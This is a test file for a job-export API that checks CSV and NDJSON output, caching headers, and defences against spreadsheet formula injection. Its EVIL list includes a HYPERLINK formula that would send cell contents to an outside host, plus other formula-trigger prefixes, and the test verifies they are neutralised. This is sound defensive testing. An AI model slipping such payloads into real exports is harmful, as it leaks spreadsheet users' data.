import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { plantJob } from '../../src/demo/stand-in/stand-in-job.js';
import { CARE, SALES, startWorld, tenantOf, type World } from '../jobs/world.js';
import { NOW_MS, plantedIn } from '../support/upstream.js';
import { download } from './download.js';
import { parseTable } from './parse-csv.js';

const EVIL = [
  '=HYPERLINK("https://example.org/?"&A1,"x")',
  '+1',
  '-1',
  '@SUM(A1)',
  ' =1+1',
  '＝1+1',
  'a, "b"',
  "it's; fine",
];
const JOBS = {
  [SALES.id]: EVIL.map((module, index) => plantJob(NOW_MS - (index + 1) * 3_600_000, { module })),
  [CARE.id]: [
    plantJob(NOW_MS - 60_000, { finishMs: NOW_MS + 60_000 }),
    plantJob(NOW_MS - 90_000, { fields: { startTime: undefined, type: 64, status: 'Paused' } }),
  ],
};
const WINDOW = 'from=2026-11-19T12:00:00Z&to=2026-11-20T12:00:00Z';

let world: World;
beforeAll(async () => {
  world = await startWorld({ tenants: [tenantOf({ organizations: [SALES, CARE] })], jobs: plantedIn(JOBS) });
});
afterAll(() => world.close());

const exported = (query: string) => download(`${world.service.url}/v1/jobs/export?${WINDOW}${query}`);

describe('GET /v1/jobs/export', () => {
  it('is a CSV file with the window in its name, and is not kept', async () => {
    const { status, headers, isWhole, trailers } = await exported('');
    expect({ status, isWhole, trailers }).toEqual({ status: 200, isWhole: true, trailers: {} });
    expect(headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8; header=present',
      'content-disposition': 'attachment; filename="backup-jobs_2026-11-19T1200Z_2026-11-20T1200Z.csv"',
      'cache-control': 'private, no-store',
      'x-content-type-options': 'nosniff',
      'transfer-encoding': 'chunked',
    });
    expect(headers).not.toHaveProperty('etag');
    expect(headers).not.toHaveProperty('trailer');
  });

  it('has every job of the list, in its order, with the same values in both formats', async () => {
    const { data } = await world.list(`/v1/jobs?${WINDOW}&pageSize=200&sort=startTime`);
    const [csv, ndjson] = [
      await exported('&sort=startTime'),
      await exported('&sort=startTime&format=ndjson'),
    ];
    expect(
      ndjson.text
        .split('\n')
        .slice(0, -1)
        .map((line) => JSON.parse(line) as unknown),
    ).toEqual(data);
    expect(ndjson.headers).toMatchObject({
      'content-type': 'application/x-ndjson',
      'content-disposition': 'attachment; filename="backup-jobs_2026-11-19T1200Z_2026-11-20T1200Z.ndjson"',
    });
    const shown = data.map(({ id, type, status, durationSeconds, organization, records }) => ({
      id,
      type,
      status,
      durationSeconds: durationSeconds === null ? '' : String(durationSeconds),
      organizationId: organization.id,
      organizationName: String(organization.name),
      recordsTotal: String(records.total),
    }));
    expect(parseTable(csv.text)).toMatchObject(shown);
    expect(shown).toHaveLength(10);
  });

  it('has no cell that a spreadsheet would run', async () => {
    const rows = parseTable((await exported('&organizationId=sales&sort=-startTime')).text);
    const modules = rows.map(({ module = '' }) => module);
    expect(modules.slice(0, 4)).toEqual(EVIL.slice(0, 4).map((text) => `'${text}`));
    // Names come without blanks around them.
    expect(modules.slice(4)).toEqual(["'=1+1", "'＝1+1", 'a, "b"', "it's; fine"]);
  });

  it('is only a header row, or nothing, when there is no job', async () => {
    const none = '&type=export&status=failed';
    const [csv, ndjson] = [await exported(none), await exported(`${none}&format=ndjson`)];
    expect(csv.text).toMatch(/^id,type,.*recordsTotal\r\n$/);
    expect({ text: ndjson.text, status: ndjson.status, isWhole: ndjson.isWhole }).toEqual({
      text: '',
      status: 200,
      isWhole: true,
    });
  });

  it('says how old it is, and costs the upstream nothing while the copies are fresh', async () => {
    world.clock.advance(3_600_000);
    await world.list(`/v1/jobs?${WINDOW}`);
    const asked = world.upstream.jobRequests;
    world.clock.advance(20_000);
    const { headers } = await exported('');
    expect(headers).toMatchObject({
      age: '20',
      'cache-status': 'bff; hit; ttl=40',
      'cache-control': 'private, no-store',
    });
    expect(world.upstream.jobRequests).toBe(asked);
    const live = await download(`${world.service.url}/v1/jobs/export?${WINDOW}`, {
      headers: { 'cache-control': 'no-cache' },
    });
    expect(live.headers).toMatchObject({ age: '0', 'cache-status': 'bff; fwd=request' });
    expect(world.upstream.jobRequests).toBe(asked + 2);
  });
});
